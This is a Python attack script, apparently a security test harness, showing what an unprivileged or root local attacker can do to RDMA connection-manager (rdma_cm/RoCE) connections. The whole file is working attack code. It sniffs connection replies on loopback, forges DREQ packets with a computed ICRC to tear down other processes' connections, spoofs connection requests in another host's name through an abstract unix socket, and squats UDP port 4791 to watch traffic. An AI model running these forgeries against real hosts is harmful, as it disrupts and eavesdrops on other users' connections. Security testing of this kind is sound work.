#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a stranger on the host can send to rdma_cm's connections.

cm_attack.py listen FILE            root: writes down the first REP on the loopback interface, as an attacker who knows all
cm_attack.py dreq FILE              ends that connection from a slot that is not the peer's
cm_attack.py letter ADDRESS PORT    asks for a connection in the name of another host
cm_attack.py dreq_letter FILE PORT  ends the connection by a letter to the server's claim
cm_attack.py hold ADDRESS SECONDS   takes UDP port 4791 there, and prints what it gets to see
"""
import json
import socket
import struct
import sys
import time
import zlib

REQ, REP, DREQ = 0x10, 0x13, 0x15
SLOT_PORT, ROCE_PORT = 0xC000, 4791


def gid(address):
    return b"\0" * 10 + b"\xff\xff" + socket.inet_aton(address)


def mad(attr, tid, body):
    return struct.pack(">BBBBHHQHHI", 1, 7, 2, 3, 0, 0, tid, attr, 0, 0) + body.ljust(232, b"\0")


def dreq(local_id, remote_id, qpn):
    return mad(DREQ, 1, struct.pack(">III", local_id, remote_id, qpn << 8))


def req(source, target, port):
    body = bytearray(232)
    struct.pack_into(">I", body, 0, 77 << 24 | 1)
    struct.pack_into(">Q", body, 8, 0x106 << 16 | port)
    struct.pack_into(">I", body, 32, (77 << 16 | 5) << 8)
    body[50] = 0x30
    body[56:72], body[72:88] = gid(source), gid(target)
    body[141] = 0x40
    body[144:160], body[160:176] = gid(source), gid(target)
    return mad(REQ, 1, bytes(body))


def frame(source, target, sport, message):
    """A packet to queue pair 1, its ICRC made with port 4791, as software NICs make it."""
    bth = struct.pack(">BBHIIII", 0x64, 0x40, 0xFFFF, 1, 0, 0x80010000, 1)
    size = 28 + len(bth) + len(message) + 4
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0xFF, size, 0, 0x4000, 0xFF, 17, 0xFFFF, socket.inet_aton(source), socket.inet_aton(target))
    udp = struct.pack(">HHHH", sport, ROCE_PORT, size - 20, 0xFFFF)
    masked = bth[:4] + b"\xff" + bth[5:]
    return bth + message + struct.pack("<I", zlib.crc32(b"\xff" * 8 + ip + udp + masked + message))


def listen(file):
    lo = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    lo.bind(("lo", 0))
    print("listening", flush=True)
    while True:
        p = lo.recv(65536)
        head = (p[0] & 15) * 4
        message = p[head + 28:]
        if p[9] != 17 or len(message) < 256 or p[head + 8] != 0x64 or message[1] != 7:
            continue
        if struct.unpack_from(">H", message, 16)[0] != REP:
            continue
        local_id, remote_id = struct.unpack_from(">II", message, 24)
        seen = {
            "server": socket.inet_ntoa(p[12:16]),
            "client": socket.inet_ntoa(p[16:20]),
            "server_port": struct.unpack_from(">H", p, head)[0],
            "client_port": struct.unpack_from(">H", p, head + 2)[0],
            "server_id": local_id,
            "client_id": remote_id,
            "server_qpn": struct.unpack_from(">I", message, 24 + 12)[0] >> 8,
        }
        with open(file, "w") as f:
            json.dump(seen, f)
        return


def dreq_packets(file):
    with open(file) as f:
        c = json.load(f)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    port = next(p for p in range(SLOT_PORT, SLOT_PORT + 256) if p != c["client_port"] and bound(s, c["client"], p))
    for local_id in 0, c["client_id"]:
        message = dreq(local_id, c["server_id"], c["server_qpn"])
        s.sendto(frame(c["client"], c["server"], port, message), (c["server"], c["server_port"]))


def bound(s, address, port):
    try:
        s.bind((address, port))
        return True
    except OSError:
        return False


def put_letter(target, port, source, slot, message):
    name = f"\0gpuwire/{gid(target).hex()}/service/{0x106 << 16 | port:x}"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.sendto(gid(target) + gid(source) + struct.pack("=i", slot) + message, name)


def dreq_letter(file, port):
    with open(file) as f:
        c = json.load(f)
    for local_id in 0, c["client_id"]:
        message = dreq(local_id, c["server_id"], c["server_qpn"])
        put_letter(c["server"], port, c["client"], c["client_port"] - SLOT_PORT, message)


def hold(address, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, ROCE_PORT))
    s.settimeout(seconds)
    print("holding", flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            p = s.recv(65536)
        except TimeoutError:
            return
        if len(p) > 40 and p[0] == 0x64 and p[21] == 7:
            print(f"saw message 0x{struct.unpack_from('>H', p, 36)[0]:x}", flush=True)


def main():
    what, *args = sys.argv[1:]
    if what == "listen":
        listen(args[0])
    elif what == "dreq":
        dreq_packets(args[0])
    elif what == "letter":
        put_letter(args[0], int(args[1]), "192.0.2.9", 77, req("192.0.2.9", args[0], int(args[1])))
    elif what == "dreq_letter":
        dreq_letter(args[0], int(args[1]))
    elif what == "hold":
        hold(args[0], float(args[1]))
    else:
        sys.exit(__doc__)


main()
